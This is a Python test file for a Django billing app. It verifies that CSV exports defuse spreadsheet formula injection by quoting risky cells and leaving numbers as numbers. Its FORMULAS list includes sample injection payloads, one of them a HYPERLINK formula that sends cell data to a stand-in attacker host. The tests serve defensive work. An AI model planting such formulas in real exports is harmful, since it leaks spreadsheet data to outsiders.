"""Every CSV the project writes is safe to open in a spreadsheet (issue 10): text that would run
as a formula gets a leading apostrophe, numbers (negative amounts included) stay numbers.

The CSVs: the admin's analytics export, the finance CSV of invoices through `export_invoices`
(tests/test_billing_export.py) and through the invoice admin's action (here).
"""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse

from billing.csvsafe import csv_cell, csv_writer
from billing.models import Invoice, Plan
from billing.services import invoices_generate
from tenants.models import CatalogModel, Tenant
from tests.billing_fixtures import add_price, at, save, usage
from tests.conftest import make_tenant

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "＝1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.50", "-0.125", "12", "0", "-3", "3.0"])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) == value


def test_other_cells_are_their_text():
    assert [csv_cell(v) for v in (None, "alice", "a=b", 5, "2024-03-01", "-")] == [
        "",
        "alice",
        "a=b",
        "5",
        "2024-03-01",
        "'-",
    ]


def test_the_writer_defuses_every_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["=1", "-1.5", "x"], ["@a", None, "+"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1", "-1.5", "x"], ["'@a", "", "'+"]]


@pytest.mark.django_db
def test_the_analytics_csv_defuses_tenant_names_and_plans(admin_client, catalog):
    plan = Plan.objects.create(name="@SUM(1+1)")
    evil = make_tenant("evil", plan=plan)
    Tenant.objects.filter(pk=evil.pk).update(name=FORMULAS[0])
    save(usage(evil, catalog["gpt"], datetime.now(UTC), input_tokens=1000, output_tokens=10))

    response = admin_client.get(reverse("admin:analytics") + "?range=7d&format=csv")

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    row = next(r for r in rows if r["tenant"] == "evil")
    assert (row["name"], row["plan"]) == ("'" + FORMULAS[0], "'@SUM(1+1)")
    assert float(row["spend"]) >= 0  # numbers are untouched
    for cell in (value for r in rows for value in r.values()):
        assert not cell.startswith(("=", "+", "@")), cell


@pytest.mark.django_db
def test_the_invoice_admin_export_defuses_text(admin_client, catalog):
    formula = CatalogModel.objects.create(name="=HYPERLINK(1)", provider="openai")
    add_price(formula, datetime(2024, 1, 1, tzinfo=UTC), input_per_1m="1", output_per_1m="1")
    tenant = make_tenant("carol")
    save(usage(tenant, formula, at(date(2024, 3, 5)), input_tokens=1000))
    invoices_generate(period=date(2024, 3, 1), now=datetime(2024, 4, 20, tzinfo=UTC))
    invoices = Invoice.objects.filter(period=date(2024, 3, 1))

    response = admin_client.post(
        reverse("admin:billing_invoice_changelist"),
        {"action": "export_csv", "_selected_action": [invoice.pk for invoice in invoices]},
    )

    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert "'=HYPERLINK(1)" in {row["model"] for row in rows}
    assert not any(value.startswith("=") for row in rows for value in row.values())
